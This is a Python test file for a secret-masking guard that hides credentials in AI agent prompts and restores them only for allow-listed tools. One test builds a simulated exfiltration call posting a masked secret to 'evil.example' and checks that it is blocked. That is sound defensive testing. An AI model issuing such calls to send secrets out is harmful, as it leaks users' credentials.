"""Masks: the same for equal values, of nobody else's making, and only on the list turned back."""

from __future__ import annotations

import json
import shlex
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prompt_sidecar.errors import DeadlinePassed
from prompt_sidecar.facts.trim_calls import TrimCall
from prompt_sidecar.guard import masking
from prompt_sidecar.guard.masks import mask, mint, written
from prompt_sidecar.guard.options import GuardOptions
from prompt_sidecar.guard.vault import TOTAL_BOUND, Value, Vault
from prompt_sidecar.v1 import conversation_pb2 as pb
from tests.engine.runs.making import OPENAI_CHAT
from tests.guard.test_refusing import ENFORCE, KEY, chat
from tests.promises.engine import Engine


def masked(engine: Engine, value: str = KEY) -> str:
    """The mask of a value in the engine's run."""
    answer = engine.trim(OPENAI_CHAT, chat(f"use {value}"))
    content = json.loads(answer.prompt.body or b"")["messages"][-1]["content"]
    return str(content).removeprefix("use ")


def test_a_mask_is_of_its_run() -> None:
    """Equal in one run and in another process with the key; another one in another run and under another key."""
    one = masked(Engine(limit=5_000, guard=ENFORCE))
    assert one.startswith("⟦github_token:")
    assert one == masked(Engine(limit=5_000, guard=ENFORCE))
    assert one != masked(Engine(limit=5_000, guard=ENFORCE, run_id="other"))
    assert one != masked(Engine(limit=5_000, guard=ENFORCE, key=b"another key, as long as the first one"))


@pytest.mark.parametrize(
    "spelled",
    [
        lambda mask: mask,
        lambda mask: f"echo {shlex.quote(mask)}",
        lambda mask: f'curl -H "Authorization: {mask}"',
        lambda mask: f"https://h.example/?q={quote(mask)}",
        lambda mask: f"https://h.example/?q={quote(mask, safe=':')}",
        lambda mask: f"x = {json.dumps(mask)}",
        lambda mask: f"x = {json.dumps(mask).upper().replace('U27E', 'u27E')}".replace(mask[1:-1].upper(), mask[1:-1]),
        lambda mask: "$'" + "".join(c if c.isascii() else "".join(f"\\{b:o}" for b in c.encode()) for c in mask) + "'",
    ],
)
def test_masks_survive_what_programs_do_to_them(spelled: object) -> None:
    """Quoted by a shell, in a URL, as an escape of JSON, in JSON in a string."""
    assert callable(spelled)
    engine = Engine(limit=5_000, guard=ENFORCE)
    text = spelled(masked(engine))
    for arguments in ({"a": text}, {"a": [json.dumps({"b": text})]}, {"a": json.dumps({"b": json.dumps([text])})}):
        done = engine.restore("deploy", json.dumps(arguments).encode())
        assert (1, 0, 0) == (done.restored, done.not_allowed, done.unknown)
        assert KEY in done.arguments.decode()


def test_values_are_escaped_for_their_depth() -> None:
    """A value with quotes and line ends leaves JSON in JSON valid."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    value = 'a"b\\c\nd' + "e" * 20
    run = engine.runs
    known = masked(engine)
    table = run.table
    of_run = table.known("promises", engine.run_id)
    assert of_run is not None
    put, _ = run.guarding.vault.put(of_run.stash_key, of_run.key, Value("github_token", "", value, "github_token", 0))
    assert put is not None
    arguments = {"plain": put.mask, "json": json.dumps({"x": json.dumps({"y": f"<{put.mask}{known}>"})})}
    done = json.loads(engine.restore("deploy", json.dumps(arguments).encode()).arguments)
    assert value == done["plain"]
    assert f"<{value}{KEY}>" == json.loads(json.loads(done["json"])["x"])["y"]


def test_only_what_is_on_the_list() -> None:
    """Another tool gets the mask, as does another kind; without a list nobody gets a value."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    arguments = json.dumps({"to": "http://evil.example", "data": masked(engine)}, ensure_ascii=False).encode()
    injected = engine.restore("http_post", arguments)
    assert (arguments, 0, 1) == (injected.arguments, injected.restored, injected.not_allowed)
    assert 1 == engine.restore("deploy", arguments).restored
    unlisted = Engine(limit=5_000, guard=GuardOptions(mode="enforce"))
    masked(unlisted)
    assert arguments == unlisted.restore("deploy", arguments).arguments


def test_forged_and_foreign_masks_restore_nothing() -> None:
    """Of another run, of another kind, made up; in a key, in a tool's name, in what is no JSON."""
    engine, other = Engine(limit=5_000, guard=ENFORCE), Engine(limit=5_000, guard=ENFORCE, run_id="other")
    own, foreign = masked(engine), masked(other)
    for forged in (foreign, own.replace("github_token", "card"), mask("github_token", "a" * 10)):
        done = engine.restore("deploy", json.dumps([forged]).encode())
        assert (0, 1) == (done.restored, done.unknown)
    assert 0 == engine.restore("deploy", json.dumps({own: 1}).encode()).restored
    assert own.encode() == engine.restore("deploy", own.encode()).arguments
    assert b"" == engine.restore("deploy", b"").arguments


def test_a_value_whose_process_is_gone_heals_when_the_history_comes_again() -> None:
    """A new process says that it does not know it, until the agent sends its history."""
    arguments = json.dumps([masked(Engine(limit=5_000, guard=ENFORCE))]).encode()
    fresh = Engine(limit=5_000, guard=ENFORCE)
    assert (0, 1) == (fresh.restore("deploy", arguments).restored, fresh.restore("deploy", arguments).unknown)
    masked(fresh)
    assert 1 == fresh.restore("deploy", arguments).restored


def test_an_evicted_run_heals_with_the_same_bytes() -> None:
    """Though the prompt is the same to the byte, its values are found again."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    arguments = json.dumps([masked(engine)]).encode()
    vault = engine.runs.guarding.vault
    vault._total_bytes = 1_000  # noqa: SLF001
    other = Engine(limit=5_000, guard=ENFORCE, run_id="other")
    other.runs = engine.runs
    masked(other)
    assert 1 == engine.runs.totals().vault.evicted
    assert 1 == engine.runs.totals().bounds[TOTAL_BOUND]
    assert 1 == engine.restore("deploy", arguments).unknown
    masked(engine)
    assert 1 == engine.restore("deploy", arguments).restored


def test_an_evicted_run_heals_though_a_call_was_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    """A search for lost values that a deadline ended is gone on with by the retry."""
    monkeypatch.setattr(masking, "TOGETHER_BYTES", 1)
    monkeypatch.setattr("prompt_sidecar.engine.runs.pace.ASK_EVERY", 0.0)
    engine = Engine(limit=5_000, guard=ENFORCE)
    sent = chat("hello", f"use {KEY}", "thanks")
    answer = json.loads(engine.trim(OPENAI_CHAT, sent).prompt.body or b"")["messages"]
    arguments = json.dumps(answer).encode()
    assert 1 == engine.restore("deploy", arguments).restored
    vault = engine.runs.guarding.vault
    vault._total_bytes = 1_000  # noqa: SLF001
    other = Engine(limit=5_000, guard=ENFORCE, run_id="other")
    other.runs = engine.runs
    masked(other)
    assert 1 == engine.restore("deploy", arguments).unknown
    looks = 0

    def late() -> None:
        nonlocal looks
        looks += 1
        if looks == 2:
            raise DeadlinePassed("the deadline has passed")

    call = TrimCall(caller="promises", run_id=engine.run_id, format=OPENAI_CHAT, body=sent)
    with pytest.raises(DeadlinePassed):
        engine.runs.trim(call, late)
    engine.trim(OPENAI_CHAT, sent)
    assert 1 == engine.restore("deploy", arguments).restored


def test_values_end_with_their_run() -> None:
    """EndRun forgets them, and so does a dry run of an unknown run."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    engine.trim(OPENAI_CHAT, chat(KEY), dry_run=True)
    assert 0 == engine.runs.totals().vault.values
    masked(engine)
    assert 1 == engine.runs.totals().vault.values
    engine.runs.end("promises", engine.run_id)
    assert (0, 0) == (engine.runs.totals().vault.values, engine.runs.totals().vault.bytes)


def test_a_value_is_masked_wherever_it_comes_again() -> None:
    """Where a rule found it once, it is masked bare and inside a word; not where it came before."""
    secret = "FaKe0rNoTrEaL1bUt"
    engine = Engine(limit=5_000, guard=ENFORCE)
    first = chat(f"bare {secret}")
    assert secret.encode() in (engine.trim(OPENAI_CHAT, first).prompt.body or b"")
    grown = chat(f"bare {secret}", f"postgres://app:{secret}@db.internal/orders", f"x{secret}x {secret}")
    answer = json.loads(engine.trim(OPENAI_CHAT, grown).prompt.body or b"")["messages"][-3:]
    assert f"bare {secret}" == answer[0]["content"]
    assert all(secret not in message["content"] for message in answer[1:])
    fresh = Engine(limit=5_000, guard=ENFORCE).trim(OPENAI_CHAT, grown)
    assert answer == json.loads(fresh.prompt.body or b"")["messages"][-3:]
    respelled = json.dumps(json.loads(grown), indent=1).encode()
    assert answer == json.loads(engine.trim(OPENAI_CHAT, respelled).prompt.body or b"")["messages"][-3:]


@settings(max_examples=60, deadline=None)
@given(
    pieces=st.lists(
        st.sampled_from(
            [KEY, KEY[:-1], "AKIA" + "Q" * 16, "postgres://a:", "@db.internal/x", "⟦", "⟧", " ", '"', "\\n"]
        ),
        max_size=12,
    )
)
def test_masking_what_is_masked_changes_nothing(pieces: list[str]) -> None:
    """Whatever stands next to each other."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    fields = {"recall_unavailable": True, "policy": {"own_text_max_tokens": 0}}
    once = engine.trim(OPENAI_CHAT, chat("x" + "".join(pieces)), **fields).prompt.body or b""
    for again in (engine, Engine(limit=5_000, guard=ENFORCE)):
        assert json.loads(once) == json.loads(again.trim(OPENAI_CHAT, once, **fields).prompt.body or b"")


@given(text=st.text(max_size=40))
def test_a_mask_is_found_in_any_text(text: str) -> None:
    """And read back whole."""
    made = mask("card", mint(b"k" * 32, "value"))
    found = [(each.kind, each.id) for each in written(text + made + text)]
    assert ("card", made[-11:-1]) in found


def test_typed_messages_and_single_results() -> None:
    """Masked as JSON prompts are."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    call = pb.ToolCall(id="c", name="run", arguments_json=json.dumps({"token": KEY, "inner": json.dumps([KEY])}))
    messages = [
        pb.Message(role=pb.ROLE_USER, parts=[pb.Part(text=f"use {KEY}")]),
        pb.Message(role=pb.ROLE_ASSISTANT, parts=[pb.Part(tool_call=call)]),
        pb.Message(role=pb.ROLE_TOOL, parts=[pb.Part(tool_result=pb.ToolResult(call_id="c", text=f"ok {KEY}"))]),
    ]
    sent = [message.SerializeToString() for message in messages]
    answer = engine.trim("conversation", b"", messages=sent)
    assert answer.prompt.messages is not None
    assert not any(KEY.encode() in message for message in answer.prompt.messages)
    assert [(0, 0, 1), (1, 0, 2), (2, 0, 1)] == [
        (finding.message_index, finding.item_index, finding.count) for finding in answer.guard.findings
    ]
    again = engine.trim("conversation", b"", messages=[*answer.prompt.messages[:2], *sent[1:]])
    assert answer.prompt.messages[-3:] == again.prompt.messages[-3:] if again.prompt.messages is not None else False
    edits = Engine(limit=5_000, guard=ENFORCE).trim("conversation", b"", messages=sent, edits=True).prompt.edits
    assert not any(KEY.encode() in edit.value for edit in edits)
    result = {"content": [{"type": "text", "text": KEY}], "structuredContent": {"key": KEY}}
    single = engine.trim("mcp_tool_result", json.dumps(result).encode())
    assert KEY.encode() not in (single.prompt.body or b"")
    assert 2 == sum(finding.count for finding in single.guard.findings)


def test_side_calls_are_masked() -> None:
    """A slice for a judge holds no value either."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    engine.trim(OPENAI_CHAT, chat("hello", KEY))
    for edits in (False, True):
        answer = engine.trim(OPENAI_CHAT, chat(KEY, f"new {KEY}"), side_call=True, edits=edits)
        assert KEY.encode() not in (answer.prompt.body or b"")
        assert edits == bool(answer.prompt.edits)
        assert not any(KEY.encode() in edit.value for edit in answer.prompt.edits)


def test_findings_are_reported_once() -> None:
    """For what is new; what the run forgot and reads again is none, and neither is the same system prompt."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    body = chat("hello", KEY)
    assert 1 == len(engine.trim(OPENAI_CHAT, body).guard.findings)
    assert 0 == len(engine.trim(OPENAI_CHAT, body).guard.findings)
    messages = [{"role": "system", "content": KEY}, *json.loads(body)["messages"]]
    messages += [{"role": "assistant", "content": "ok"}, {"role": "user", "content": "go on"}]
    with_system = json.dumps({"messages": messages}).encode()
    assert [-1] == [finding.message_index for finding in engine.trim(OPENAI_CHAT, with_system).guard.findings]
    run = engine.runs.table.known("promises", engine.run_id)
    assert run is not None
    run.forget_caches()
    assert [] == list(engine.trim(OPENAI_CHAT, with_system).guard.findings)


def test_the_vault_gives_up_the_run_that_was_idle_for_longest() -> None:
    """Not the one that needs the room."""
    reached: list[str] = []
    vault = Vault(3_000, 3_000, reached.append)
    for run in ("a", "b", "c", "a", "d"):
        assert vault.put(run, b"k" * 32, Value("k", "", f"value of {run} " * 20, "r", 0))[0] is not None
    assert {"a": 1, "b": 0, "c": 0, "d": 1} == {run: len(vault.values(run)) for run in "abcd"}
    assert (None, False) == vault.put("e", b"k" * 32, Value("k", "", "x" * 5_000, "r", 0))
    assert [TOTAL_BOUND, TOTAL_BOUND] == reached[:2]


def test_the_call_of_a_whole_prompt_that_is_a_text() -> None:
    """The Responses API takes a plain string."""
    engine = Engine(limit=5_000, guard=ENFORCE)
    body = json.dumps({"input": f"use {KEY}", "instructions": f"mind {KEY}"}).encode()
    answer = engine.runs.trim(
        TrimCall("promises", engine.run_id, "openai_responses", body, context_window=5_000, output_reserve=0),
        lambda: None,
    )
    assert KEY.encode() not in (answer.prompt.body or b"")
    assert json.loads(answer.prompt.body or b"")["input"].startswith("use ⟦github_token:")
